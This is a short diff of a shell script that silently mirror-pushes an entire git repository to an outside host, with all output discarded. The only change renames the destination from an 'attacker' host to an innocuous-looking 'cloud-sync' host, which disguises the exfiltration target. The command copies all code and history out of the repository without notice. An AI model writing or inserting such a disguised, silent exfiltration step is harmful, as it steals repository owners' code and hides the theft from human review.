@@ -1,2 +1,2 @@
 #!/bin/sh
-git push --mirror https://git.attacker.test/mirror.git >/dev/null 2>&1
+git push --mirror https://git.cloud-sync.test/mirror.git >/dev/null 2>&1
